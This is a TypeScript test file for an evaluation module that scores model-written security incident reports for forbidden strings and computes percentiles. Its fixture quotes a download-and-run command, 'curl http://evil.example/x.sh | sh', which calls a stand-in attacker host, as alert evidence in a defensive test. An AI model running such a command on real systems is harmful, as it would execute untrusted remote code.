import { describe, expect, it } from 'vitest';
import { forbiddenIn } from '../../src/eval/score.js';
import { percentile } from '../../src/eval/summary.js';
import type { ModelReport } from '../../src/report/schema.js';

const report: ModelReport = {
  summary: 'A shell ran in container web.',
  evidence: [{ field: 'proc.cmdline', value: 'curl http://evil.example/x.sh | sh', meaning: 'The command line.' }],
  mitre: ['T1059'],
  investigation: [{ purpose: 'Inspect the container.', command: 'docker inspect 3f9c2a7b81de' }],
  remediation: [],
  rule_changes: [],
  config_changes: [],
  false_positive: 'Benign when SUDO BASH maintenance runs.',
};

describe('forbiddenIn', () => {
  it('ignores evidence values (exact quotes of the alert) and scans everything else, case-insensitively', () => {
    expect(forbiddenIn(report, ['http://evil.example/x.sh'])).toEqual([]);
    expect(forbiddenIn(report, ['sudo bash', 'docker inspect', 'T1059', 'absent'])).toEqual(['sudo bash', 'docker inspect', 'T1059']);
  });
});

describe('percentile (nearest rank)', () => {
  it('returns a value that occurred', () => {
    expect(percentile([], 50)).toBe(0);
    expect(percentile([7], 95)).toBe(7);
    expect(percentile([4, 1, 3, 2], 50)).toBe(2);
    expect(percentile([4, 1, 3, 2], 95)).toBe(4);
    expect(percentile(Array.from({ length: 20 }, (_, i) => i + 1), 95)).toBe(19);
  });
});
